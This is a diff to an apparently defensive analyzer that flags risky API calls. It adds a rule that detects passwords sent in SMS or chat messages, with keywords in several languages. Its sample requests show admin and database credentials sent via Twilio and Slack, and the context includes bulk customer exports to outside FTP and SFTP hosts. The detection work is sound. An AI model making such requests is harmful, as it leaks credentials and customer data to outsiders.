@@ -8,7 +8,7 @@ import { API_EFFECT_PATTERNS, bulkToHook, codeRelayed, destroysContainer, dnsRep
 import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
 import { parseRequest, requestText, REQUEST_PATTERNS, type ApiRequest } from '../parse/api-request.js';
 import { API_EXPOSURE_PATTERNS } from '../parse/api-exposure.js';
-import { API_REACH_PATTERNS, credentialsToHook, deliveredOutside, listLure, zoneHandedOut } from '../parse/api-reach.js';
+import { API_REACH_PATTERNS, credentialsToHook, deliveredOutside, listLure, secretMessaged, zoneHandedOut } from '../parse/api-reach.js';
 import { API_INTEGRITY_PATTERNS } from '../parse/api-integrity.js';
 import { API_EFFECT_RULES, batchViews, firstEffect, type EffectContext } from '../parse/api-views.js';
 import { safeguarded } from '../frames/safeguards.js';
@@ -1127,6 +1127,18 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       examples: {
         flag: ['POST https://api.acme.com/v1/exports {"resource": "customers", "scope": "all", "deliver_to": "ftp://203.0.113.50/drop"}', 'POST https://crm.acme.com/api/v2/export-jobs {"object": "contacts", "destination": "sftp://upload.partner-leadgen.com/in"}'],
         pass: ['POST https://api.acme.com/v1/exports {"resource": "orders", "scope": "last_30_days", "deliver_to": "s3://acme-reporting/exports/"}', 'POST https://api.acme.com/v1/exports {"resource": "customers", "deliver_to": "sftp://10.2.0.14/in"}'],
+      },
+    },
+    {
+      id: 'A52',
+      name: 'Password written out in a message sent to someone',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['password', 'passwd', 'creds', 'credentials', 'login:', 'passwort', 'kennwort', 'contraseña', 'contrasena', 'senha', 'mot de passe', 'wachtwoord'],
+      detect: (ctx) => firstEffect(ctx.views, secretMessaged),
+      examples: {
+        flag: ["POST https://api.twilio.com/2010-04-01/Accounts/AC1/Messages.json To=+15550001111 Body='Here are the admin creds: admin / Winter2024!'", 'POST https://slack.com/api/chat.postMessage {"channel": "D0ASDF", "text": "db password is Pr0d-S3cret for the migration"}'],
+        pass: ["POST https://api.twilio.com/2010-04-01/Accounts/AC1/Messages.json To=+15550001111 Body='Your password was changed. If this was not you, call support.'", 'POST https://slack.com/api/chat.postMessage {"channel": "#it", "text": "Password reset link: https://id.acme.com/reset (expires in 15 min)"}'],
       },
     },
     ...(API_EFFECT_RULES as ThreatRule<ApiContext>[]),
